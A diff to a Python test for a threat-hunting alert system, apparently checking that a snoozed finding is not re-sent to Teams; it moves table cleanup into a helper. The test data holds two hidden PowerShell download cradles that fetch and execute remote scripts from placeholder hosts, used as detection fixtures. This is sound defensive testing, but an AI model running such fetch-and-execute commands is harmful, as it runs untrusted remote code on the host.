@@ -27,6 +27,7 @@ from shared.suppress.store import PARTITION, TABLE
 from shared.suppress.token import TokenError, finding_fingerprint, make_token, read_token
 from shared.suppress.wiring import snooze_url
 from tests.card_text import texts as card_texts
+from tests.fanout_world import clear_tables
 
 REPO = Path(__file__).resolve().parents[1]
 KEY = b"k" * 32
@@ -270,9 +271,7 @@ def test_a_snoozed_finding_does_not_reach_teams_on_the_next_run(
     hunts = tmp_path / "hunts"
     hunts.mkdir()
     shutil.copy(REPO / "hunts" / "powershell-download-cradle-stager.yaml", hunts)
-    service = TableServiceClient.from_connection_string(storage_connection_string)
-    for table in service.list_tables():
-        service.delete_table(table.name)
+    clear_tables(storage_connection_string)
     first, second = datetime(2026, 11, 30, 10, tzinfo=UTC), datetime(2026, 11, 30, 11, tzinfo=UTC)
     vendor = "powershell -w hidden -c \"iwr https://vendor.example/policy.ps1 | iex\""
     other = "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\""
